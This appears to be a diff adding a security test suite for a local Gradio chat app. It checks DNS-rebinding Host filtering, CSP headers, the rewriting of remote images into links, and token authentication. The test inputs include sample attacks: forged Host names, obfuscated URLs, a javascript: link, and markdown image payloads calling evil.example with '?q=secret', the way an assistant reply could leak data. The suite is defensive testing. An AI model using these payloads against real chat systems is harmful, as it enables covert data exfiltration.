@@ -1,0 +1,532 @@
+"""The web face's defences, on a real server over real HTTP and in Debian's headless Chromium:
+the Host allow-list (DNS rebinding), the Content-Security-Policy and frame headers, remote images
+shown as links and never fetched, and the token a non-loopback bind needs."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import http.client
+import json
+import os
+import re
+import secrets
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlparse
+
+import pytest
+from conftest import CHROMIUM, CHROMIUM_ARGS, free_port, run_cli
+from playwright.sync_api import Error as PlaywrightError
+
+from app.faces.web_guard import (
+    CSP,
+    WebGuard,
+    allowed_hosts,
+    is_local_url,
+    read_token,
+    remote_images_as_links,
+)
+
+PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
+DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()
+FORGED = ["evil.example", "evil.example:{port}", "localhost.evil.example:{port}", "127.0.0.1.nip.io:{port}",
+          "localhost:{other}"]
+SERVED = ["127.0.0.1:{port}", "localhost:{port}", "127.0.0.1", "localhost", "[::1]:{port}"]
+WEBSOCKET = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
+             "Sec-WebSocket-Key": base64.b64encode(b"nemo-chat-test!!").decode()}
+
+
+# -- helpers ------------------------------------------------------------------------------------------
+def ask(url: str, path: str = "/", method: str = "GET", host: str | None = None, body: bytes | None = None,
+        headers: dict | None = None) -> tuple[int, http.client.HTTPMessage, bytes]:
+    """One real HTTP request to the server of `url`, with this exact Host header if given."""
+    parts = urlparse(url)
+    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
+    try:
+        connection.request(method, path, body=body, headers={**({"Host": host} if host else {}), **(headers or {})})
+        response = connection.getresponse()
+        return response.status, response.headers, response.read()
+    finally:
+        connection.close()
+
+
+def upload_body(name: str, data: bytes) -> tuple[bytes, dict]:
+    boundary = "nemo-" + secrets.token_hex(8)
+    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
+            f"Content-Type: text/plain\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
+    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}
+
+
+def routes(demo) -> list[tuple[str, str, bytes | None, dict]]:
+    """(method, path, body, headers): the page, its config, the API info, a queue join, an upload, a
+    websocket upgrade."""
+    fn_index = next(i for i, fn in demo.fns.items() if fn.name == "new_conversation")
+    join = json.dumps({"data": [], "event_data": None, "fn_index": fn_index, "trigger_id": None,
+                       "session_hash": "security-test"}).encode()
+    upload, upload_headers = upload_body("note.txt", b"hello")
+    return [("GET", "/", None, {}), ("GET", "/gradio_api/info", None, {}), ("GET", "/config", None, {}),
+            ("POST", "/gradio_api/queue/join", join, {"Content-Type": "application/json"}),
+            ("POST", "/gradio_api/upload", upload, upload_headers),
+            ("GET", "/gradio_api/queue/join", None, WEBSOCKET)]
+
+
+def wait_until(predicate, timeout: float = 60, what: str = "") -> None:
+    deadline = time.monotonic() + timeout
+    while not predicate():
+        assert time.monotonic() < deadline, f"timed out waiting for {what}"
+        time.sleep(0.1)
+
+
+def csp_directives(header: str) -> dict[str, list[str]]:
+    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}
+
+
+@pytest.fixture()
+def remote():
+    """A stand-in for another server (127.0.0.2, its own port) that records every path asked of it."""
+    seen: list[str] = []
+
+    class Pixel(BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Content-Length", str(len(PNG)))
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(PNG)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.2", 0), Pixel)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    server.seen = seen
+    server.base = f"http://127.0.0.2:{server.server_address[1]}"
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def prove_reachable(page, remote) -> None:
+    """The remote server is reachable from this Chromium: a page without our CSP loads its image."""
+    other = page.context.browser.new_page()
+    other.set_content(f'<img src="{remote.base}/control.png">')
+    wait_until(lambda: "/control.png" in remote.seen, what="the control image")
+    other.close()
+
+
+# -- DNS rebinding: the Host allow-list ----------------------------------------------------------------
+def test_forged_host_names_are_refused_on_every_route(served):
+    demo, url = served
+    port = urlparse(url).port
+    for method, path, body, headers in routes(demo):
+        for forged in FORGED:
+            host = forged.format(port=port, other=port + 1)
+            status, response_headers, text = ask(url, path, method, host, body, headers)
+            assert status == 421, (method, path, host, status)
+            assert text.decode().count("\n") == 1 and "host name" in text.decode(), text
+            assert response_headers["Content-Type"].startswith("text/plain")
+    # Gradio answers CORS preflights outside any app middleware: a fixed OK, nothing of the app
+    origin = {"Origin": f"http://evil.example:{port}", "Access-Control-Request-Method": "POST"}
+    assert ask(url, "/gradio_api/info", "OPTIONS", f"evil.example:{port}", headers=origin)[2] == b"OK"
+    assert ask(url, "/gradio_api/info", "OPTIONS", f"evil.example:{port}")[0] == 421
+
+
+def test_the_served_names_are_answered(served):
+    demo, url = served
+    port = urlparse(url).port
+    for method, path, body, headers in routes(demo)[:5]:
+        for served_host in SERVED:
+            status, _, text = ask(url, path, method, served_host.format(port=port), body, headers)
+            assert status == 200, (method, path, served_host, status, text[:200])
+    _, _, text = ask(url, "/gradio_api/info", host=f"localhost:{port}")
+    assert "named_endpoints" in json.loads(text)
+
+
+def test_a_rebound_name_gets_421_in_chromium(served, page, remote):
+    """The attack itself: evil.example resolves to 127.0.0.1 (Chromium's resolver rules)."""
+    _, url = served
+    port = urlparse(url).port
+    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP pictures.example 127.0.0.2"
+    browser = page.context.browser.browser_type.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
+    try:
+        rebound = browser.new_page()
+        control = rebound.goto(f"http://pictures.example:{urlparse(remote.base).port}/rule.png")
+        assert control.status == 200 and "/rule.png" in remote.seen, "the resolver rules work"
+        response = rebound.goto(f"http://evil.example:{port}/")
+        assert response.status == 421
+        assert "does not answer to that host name" in rebound.locator("body").inner_text()
+        info = rebound.evaluate("() => fetch('/gradio_api/info').then(r => r.status)")
+        assert info == 421
+    finally:
+        browser.close()
+
+
+def test_websocket_handshakes_with_a_forged_host_are_refused():
+    """The ASGI websocket branch (this venv's uvicorn has no websocket library, so a real upgrade is
+    an HTTP request: the route test above covers it)."""
+    reached = []
+
+    async def app(scope, receive, send):
+        reached.append(scope["type"])
+
+    guard = WebGuard(app, allowed_hosts("127.0.0.1", 7860), 7860)
+
+    def handshake(host: bytes, extensions: dict) -> list[dict]:
+        sent = []
+
+        async def send(message):
+            sent.append(message)
+
+        scope = {"type": "websocket", "headers": [(b"host", host)], "extensions": extensions}
+        asyncio.run(guard(scope, None, send))
+        return sent
+
+    refused = handshake(b"evil.example:7860", {"websocket.http.response": {}})
+    assert refused[0]["type"] == "websocket.http.response.start" and refused[0]["status"] == 421
+    assert handshake(b"evil.example", {}) == [{"type": "websocket.close", "code": 1008}]
+    assert reached == []
+    assert handshake(b"127.0.0.1:7860", {}) == [] and reached == ["websocket"]
+
+
+def test_only_gradios_own_startup_call_from_this_machine_skips_the_token():
+    """launch() asks /gradio_api/startup-events without credentials; nothing else may."""
+    reached = []
+
+    async def app(scope, receive, send):
+        reached.append(scope["path"])
+
+    guard = WebGuard(app, allowed_hosts("0.0.0.0", 7860), 7860, any_ip=True, token="t" * 20)
+
+    def status(path: str, client: str, method: str = "GET") -> int | None:
+        sent = []
+
+        async def receive():
+            return {"type": "http.request", "body": b"", "more_body": False}
+
+        async def send(message):
+            sent.append(message)
+
+        scope = {"type": "http", "method": method, "path": path, "client": (client, 5000),
+                 "headers": [(b"host", b"localhost:7860")]}
+        asyncio.run(guard(scope, receive, send))
+        return sent[0]["status"] if sent else None
+
+    assert status("/gradio_api/startup-events", "127.0.0.1") is None and reached == ["/gradio_api/startup-events"]
+    assert status("/gradio_api/startup-events", "192.0.2.8") == 401
+    assert status("/gradio_api/startup-events", "127.0.0.1", "POST") == 401
+    assert status("/gradio_api/info", "127.0.0.1") == 401
+    assert reached == ["/gradio_api/startup-events"]
+
+
+def test_allowed_hosts_for_each_kind_of_bind(monkeypatch):
+    monkeypatch.delenv("NEMO_CHAT_ALLOWED_HOSTS", raising=False)
+    assert allowed_hosts("127.0.0.1", 7860) == {"localhost", "localhost:7860", "127.0.0.1", "127.0.0.1:7860",
+                                                "[::1]", "[::1]:7860"}
+    lan = allowed_hosts("192.168.1.20", 8000, ["Chat.Home.Arpa", "tunnel.example:9000"])
+    assert lan == {"192.168.1.20", "192.168.1.20:8000", "chat.home.arpa", "chat.home.arpa:8000",
+                   "tunnel.example:9000"}
+    monkeypatch.setenv("NEMO_CHAT_ALLOWED_HOSTS", " other.example , ")
+    assert {"other.example", "other.example:7860"} <= allowed_hosts("::1", 7860)
+    assert "[::1]:7860" in allowed_hosts("::1", 7860)
+    guard = WebGuard(None, allowed_hosts("0.0.0.0", 7860), 7860, any_ip=True)
+    assert guard.host_ok("10.0.0.7:7860") and guard.host_ok("[fe80::1]") and guard.host_ok("localhost:7860")
+    assert not guard.host_ok("10.0.0.7:7861") and not guard.host_ok("10.0.0.7.evil.example")
+
+
+def test_uploads_over_the_size_limit_are_refused(home):
+    from app.ui import build_app, launch
+
+    demo, style = build_app(max_file_mb=1)
+    port = free_port()
+    launch(demo, style, port=port, block=False, max_file_mb=1)
+    try:
+        url = f"http://127.0.0.1:{port}/"
+        big, headers = upload_body("big.txt", b"x" * (2**20 + 4096))
+        status, _, text = ask(url, "/gradio_api/upload", "POST", body=big, headers=headers)
+        assert status == 413, (status, text)
+        small, headers = upload_body("small.txt", b"x" * 1000)
+        status, _, text = ask(url, "/gradio_api/upload", "POST", body=small, headers=headers)
+        assert status == 200 and json.loads(text)[0].endswith("small.txt")
+    finally:
+        demo.close()
+
+
+# -- Content-Security-Policy and frame headers -----------------------------------------------------------
+def test_security_headers_on_the_page_the_api_and_refusals(served):
+    _, url = served
+    port = urlparse(url).port
+    upload, upload_headers = upload_body("note.txt", b"hello")
+    responses = [ask(url, "/"), ask(url, "/gradio_api/info"), ask(url, "/config"), ask(url, "/theme.css"),
+                 ask(url, "/gradio_api/upload", "POST", body=upload, headers=upload_headers),
+                 ask(url, "/no-such-page"), ask(url, "/", host="evil.example")]
+    asset = re.search(r"/assets/[\w.-]+\.js", responses[0][2].decode())
+    assert asset, "the page names its script"
+    responses.append(ask(url, asset[0]))
+    for status, headers, _ in responses:
+        assert headers["Content-Security-Policy"] == CSP, status
+        assert headers["X-Frame-Options"] == "DENY"
+        assert headers["X-Content-Type-Options"] == "nosniff"
+        assert headers["Referrer-Policy"] == "no-referrer"
+    assert [r[0] for r in responses[:5]] == [200] * 5 and responses[6][0] == 421
+    directives = csp_directives(CSP)
+    assert directives["default-src"] == ["'self'"] and directives["connect-src"] == ["'self'"]
+    assert directives["img-src"] == ["'self'", "data:", "blob:"] and directives["font-src"] == ["'self'", "data:"]
+    assert directives["object-src"] == ["'none'"] and directives["frame-ancestors"] == ["'none'"]
+    assert directives["base-uri"] == ["'self'"] and directives["form-action"] == ["'self'"]
+    assert not [source for sources in directives.values() for source in sources
+                if source in ("*", "http:", "https:") or "." in source], "only this origin"
+    assert ask(url, "/", host=f"127.0.0.1:{port}")[0] == 200
+
+
+def test_the_app_works_under_its_csp(served, page):
+    """A message is typed and sent, the reply streams, every tab opens: no CSP violation on the way."""
+    _, url = served
+    problems = []
+    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
+    page.on("pageerror", lambda error: problems.append(str(error)))
+    page.add_init_script("document.addEventListener('securitypolicyviolation', e =>"
+                         " console.error('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI))")
+    response = page.goto(url)
+    assert response.headers["content-security-policy"] == CSP
+    page.locator("#message-box textarea").click()
+    page.keyboard.type("Write a short poem about the sea.")
+    page.locator("#send").click()
+    page.wait_for_function("() => { const b = document.querySelectorAll('#chatbot .message.bot');"
+                           " return b.length && b[b.length-1].innerText.trim().length > 0"
+                           " && document.querySelector('#reply-stats').innerText.includes('…'); }", timeout=120_000)
+    page.wait_for_function("() => document.querySelector('#reply-stats').innerText.includes('tok/s')",
+                           timeout=240_000)
+    for tab in ("Documents", "Translate", "Settings", "Chat"):
+        page.get_by_role("tab", name=tab).click()
+    page.get_by_role("tab", name="Documents").click()
+    page.locator("#doc-progress").wait_for(timeout=30_000)
+    assert page.locator("#doc-progress .error-container").count() == 0, "gr.HTML renders (it needs eval)"
+    blocked = [p for p in problems if "Content Security Policy" in p or "CSP violation" in p or "EvalError" in p]
+    assert blocked == []
+
+
+# -- remote images become links ------------------------------------------------------------------------
+def test_remote_images_in_a_conversation_are_links_and_never_fetched(served, page, remote):
+    demo, url = served
+    history = demo.nemo.history
+    cid = history.create_conversation("pictures")
+    history.add_message(cid, "user", f"What is in ![my photo]({remote.base}/user.png)?")
+    history.add_message(cid, "assistant", (
+        f"Here: ![secret]({remote.base}/pixel.png?q=secret)\n\n"
+        f'Raw HTML: <img src="{remote.base}/raw.png" alt="raw">\n\n'
+        f"By reference: ![logo][l]\n\n"
+        f"Inline data: ![dot]({DATA_PNG})\n\n"
+        f"As code: `![code]({remote.base}/code.png)`\n\n"
+        f"[l]: {remote.base}/ref.png\n"))
+    prove_reachable(page, remote)
+    page.goto(url)
+    page.locator("#conversation-list label", has_text="pictures").click()
+    link = page.locator("#chatbot a", has_text="secret")
+    link.wait_for(timeout=30_000)
+    page.locator("#chatbot code", has_text="![code](").wait_for(timeout=30_000)
+    assert link.get_attribute("href") == f"{remote.base}/pixel.png?q=secret"
+    hrefs = page.locator("#chatbot a").evaluate_all("links => links.map(a => a.href)")
+    for name in ("user.png", "pixel.png?q=secret", "raw.png", "ref.png"):
+        assert f"{remote.base}/{name}" in hrefs, (name, hrefs)
+    sources = page.locator("#chatbot img").evaluate_all("images => images.map(i => i.src)")
+    assert DATA_PNG in sources, "data: images still show"
+    assert not [s for s in sources if s.startswith(remote.base)]
+    page.wait_for_timeout(1_000)  # room for any image request the page might still make
+    assert remote.seen == ["/control.png"], "the browser fetched nothing from the remote server"
+
+
+def test_the_csp_stops_a_remote_image_the_rewrite_missed(served, page, remote):
+    _, url = served
+    prove_reachable(page, remote)
+    page.goto(url)
+    page.locator("#chatbot").wait_for(timeout=30_000)
+    violation = page.evaluate("""(src) => new Promise(resolve => {
+        document.addEventListener('securitypolicyviolation',
+            e => resolve(e.effectiveDirective + ' ' + e.blockedURI), {once: true});
+        const img = document.createElement('img');
+        img.onload = () => resolve('loaded');
+        img.src = src; document.body.appendChild(img);
+    })""", f"{remote.base}/injected.png")
+    assert violation == f"img-src {remote.base}/injected.png"
+    fetched = page.evaluate("(src) => fetch(src).then(() => 'loaded', () => 'refused')", f"{remote.base}/fetch")
+    assert fetched == "refused"
+    assert remote.seen == ["/control.png"]
+
+
+def test_a_summary_with_a_remote_image_shows_a_link(served, page, remote, tmp_path):
+    from app.documents.reading import read_document
+
+    demo, url = served
+    store = demo.nemo.documents
+    source = tmp_path / "report.md"
+    source.write_text("# Report\n\nSome words about the harbour and its boats.\n", encoding="utf-8")
+    document_id, _ = store.add(read_document(source))
+    store.save_summary(document_id, "smollm2", {}, f"The harbour. ![chart]({remote.base}/chart.png)", 1, 1)
+    prove_reachable(page, remote)
+    page.goto(url)
+    page.get_by_role("tab", name="Documents").click()
+    page.locator("#doc-choice input").click()
+    page.get_by_role("option", name="report.md", exact=False).click()
+    link = page.locator("#doc-summary a", has_text="chart")
+    link.wait_for(timeout=30_000)
+    assert link.get_attribute("href") == f"{remote.base}/chart.png"
+    page.wait_for_timeout(1_000)
+    assert remote.seen == ["/control.png"]
+
+
+def test_streamed_replies_are_rewritten_too(served):
+    """ChatUI.follow shows the reply while it streams: its text passes the same rewrite."""
+    from app.base.jobs import Job
+    from app.services.chat import ReplyUpdate
+    from app.ui import ChatUI
+
+    demo, _ = served
+    ui = ChatUI(demo.nemo)
+    cid = demo.nemo.history.create_conversation("streaming")
+
+    def work(progress, cancel):
+        yield ReplyUpdate(cid, None, "Look: ![x](https://evil.example/?q=secret)")
+
+    shown = [messages for messages, *_ in ui.follow(Job(work).start(), cid)]
+    assert shown and shown[-1][-1]["content"] == "Look: [🖼 x](https://evil.example/?q=secret)"
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("![x](https://evil.example/?q=secret)", "[🖼 x](https://evil.example/?q=secret)"),
+    ('a ![cat](http://a.example/c.png "Cat") b', 'a [🖼 cat](http://a.example/c.png "Cat") b'),
+    ("![p](//evil.example/p.png)", "[🖼 p](//evil.example/p.png)"),
+    ("![e](&#104;ttp://evil.example/e.png)", "[🖼 e](&#104;ttp://evil.example/e.png)"),
+    ("![r][ref]\n\n[ref]: https://evil.example/r.png", "[🖼 r][ref]\n\n[ref]: https://evil.example/r.png"),
+    ('<img src="https://evil.example/i.png" alt="pic">', "[🖼 pic](<https://evil.example/i.png>)"),
+    ('<IMG SRC=https://evil.example/i.png>', "[🖼 image](<https://evil.example/i.png>)"),
+    ('<img src="/ok.png" srcset="https://evil.example/2x.png 2x">', "[🖼 image](<https://evil.example/2x.png>)"),
+    ('<video src="https://evil.example/v.mp4"></video>', '&lt;video src="https://evil.example/v.mp4"></video>'),
+    ("![x](javascript:alert(1))", "🖼 x"),
+])
+def test_remote_images_become_links(text, expected):
+    assert remote_images_as_links(text) == expected
+
+
+@pytest.mark.parametrize("text", [
+    f"![dot]({DATA_PNG})",
+    "![local](/gradio_api/file=picture.png) and ![relative](picture.png)",
+    '<img src="data:image/png;base64,AAAA" alt="x">',
+    "No images here! Just text, <b>bold</b>, a < b and [a link](https://example.com).",
+    "Inline `![x](https://evil.example/a.png)` code.",
+    "```markdown\n![x](https://evil.example/b.png)\n```",
+    "~~~\n![x](https://evil.example/c.png)\n",  # a fence still open while the reply streams
+    "",
+])
+def test_local_images_text_and_code_are_left_alone(text):
+    assert remote_images_as_links(text) == text
+
+
+def test_code_and_text_in_one_message():
+    text = "```\n![a](https://evil.example/a.png)\n```\n\n![b](https://evil.example/b.png)"
+    assert remote_images_as_links(text) == "```\n![a](https://evil.example/a.png)\n```\n\n[🖼 b](https://evil.example/b.png)"
+
+
+def test_local_urls():
+    assert is_local_url("picture.png") and is_local_url("/gradio_api/file=x") and is_local_url("DATA:image/png,x")
+    for remote_url in ("https://a.example", "//a.example", "/\\a.example", "\\\\a.example", " https://a",
+                       "ht\ttps://a.example", "&#104;ttps://a.example", "<https://a.example/x y>", "javascript:x"):
+        assert not is_local_url(remote_url), remote_url
+
+
+# -- a non-loopback bind needs a token -------------------------------------------------------------------
+def test_a_non_loopback_bind_without_a_token_exits_2(home, tmp_path, monkeypatch):
+    monkeypatch.delenv("NEMO_CHAT_TOKEN", raising=False)
+    for args in (["--host", "0.0.0.0"], ["--host", "192.0.2.10"], ["--host", "::"]):
+        result = run_cli("ui", *args, "--no-browser", "--port", str(free_port()), home=home, timeout=120)
+        assert result.returncode == 2, result.stderr
+        lines = result.stderr.strip().splitlines()
+        assert len(lines) == 1 and "NEMO_CHAT_TOKEN" in lines[0] and "--token-file" in lines[0], lines
+        assert "Traceback" not in result.stderr
+    short = tmp_path / "short-token"
+    short.write_text("tiny\n")
+    for args in (["--token-file", str(short)], ["--token-file", str(tmp_path / "missing")]):
+        result = run_cli("ui", "--host", "0.0.0.0", *args, "--no-browser", home=home, timeout=120)
+        assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
+    assert not (home / "nemo-chat.db").exists(), "nothing starts before the check"
+
+
+def test_read_token(tmp_path, monkeypatch):
+    monkeypatch.delenv("NEMO_CHAT_TOKEN", raising=False)
+    assert read_token() is None
+    monkeypatch.setenv("NEMO_CHAT_TOKEN", " a-token-of-enough-length \n")
+    assert read_token() == "a-token-of-enough-length"
+    token_file = tmp_path / "token"
+    token_file.write_text("from-the-file-0123456789\nsecond line\n")
+    assert read_token(str(token_file)) == "from-the-file-0123456789"
+
+
+def test_a_non_loopback_bind_with_a_token_needs_it_on_every_route(home, page, tmp_path):
+    from test_cli import listening_addresses
+
+    from app.base.config import database_path
+    from app.history import History
+
+    seeded = History(database_path())
+    cid = seeded.create_conversation("seeded chat")
+    seeded.add_message(cid, "user", "A message saved before the server started.")
+    seeded.close()
+    token = secrets.token_urlsafe(24)
+    port = free_port()
+    env = {**os.environ, "NEMO_CHAT_HOME": str(home), "NEMO_CHAT_TOKEN": token,
+           "NEMO_CHAT_ALLOWED_HOSTS": "other.example"}
+    server = subprocess.Popen([sys.executable, "-m", "app", "--home", str(home), "ui", "--host", "0.0.0.0",
+                               "--port", str(port), "--no-browser", "--allow-host", "chat.example"],
+                              env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    url = f"http://127.0.0.1:{port}/"
+    bearer = {"Authorization": f"Bearer {token}"}
+    basic = {"Authorization": "Basic " + base64.b64encode(f"nemo:{token}".encode()).decode()}
+    try:
+        def answering() -> bool:
+            assert server.poll() is None, server.stdout.read()
+            try:
+                return ask(url, "/gradio_api/info")[0] > 0
+            except OSError:
+                return False
+
+        wait_until(answering, timeout=180, what="the server")
+        assert listening_addresses(port) == {"0.0.0.0"}
+        upload, upload_headers = upload_body("note.txt", b"hello")
+        for method, path, body, headers in [("GET", "/", None, {}), ("GET", "/gradio_api/info", None, {}),
+                                            ("POST", "/gradio_api/upload", upload, upload_headers),
+                                            ("POST", "/gradio_api/queue/join", b"{}", {"Content-Type": "application/json"})]:
+            status, response_headers, text = ask(url, path, method, body=body, headers=headers)
+            assert status == 401, (path, status)
+            assert response_headers["WWW-Authenticate"].startswith("Basic") and text.decode().count("\n") == 1
+        wrong = {"Authorization": "Bearer " + token[:-1] + ("x" if token[-1] != "x" else "y")}
+        stranger = {"Authorization": "Basic " + base64.b64encode(f"root:{token}".encode()).decode()}
+        assert ask(url, "/gradio_api/info", headers=wrong)[0] == 401
+        assert ask(url, "/gradio_api/info", headers=stranger)[0] == 401
+        status, _, text = ask(url, "/gradio_api/info", headers=bearer)
+        assert status == 200 and "named_endpoints" in json.loads(text)
+        assert ask(url, "/gradio_api/info", headers=basic)[0] == 200
+        for host in (f"chat.example:{port}", "other.example", f"localhost:{port}", f"192.0.2.7:{port}"):
+            assert ask(url, "/gradio_api/info", host=host, headers=bearer)[0] == 200, host
+        assert ask(url, "/gradio_api/info", host=f"evil.example:{port}", headers=bearer)[0] == 421
+
+        browser = page.context.browser
+        for credentials in (None, {"username": "nemo", "password": "not-the-token-at-all"}):
+            try:  # headless Chromium either shows the 401 or gives up on the login prompt
+                status = browser.new_context(http_credentials=credentials).new_page().goto(url).status
+            except PlaywrightError as error:
+                status = 401 if "ERR_INVALID_AUTH_CREDENTIALS" in str(error) else str(error)
+            assert status == 401, (credentials, status)
+        signed_in = browser.new_context(http_credentials={"username": "nemo", "password": token}).new_page()
+        signed_in.goto(url)
+        signed_in.locator("#conversation-list label", has_text="seeded chat").click()
+        signed_in.locator("#chatbot", has_text="saved before the server started").wait_for(timeout=60_000)
+    finally:
+        server.terminate()
+        output = server.communicate(timeout=60)[0]
+    notices = [line for line in output.splitlines() if "reachable from other machines" in line]
+    assert len(notices) == 1 and "token" in notices[0], output
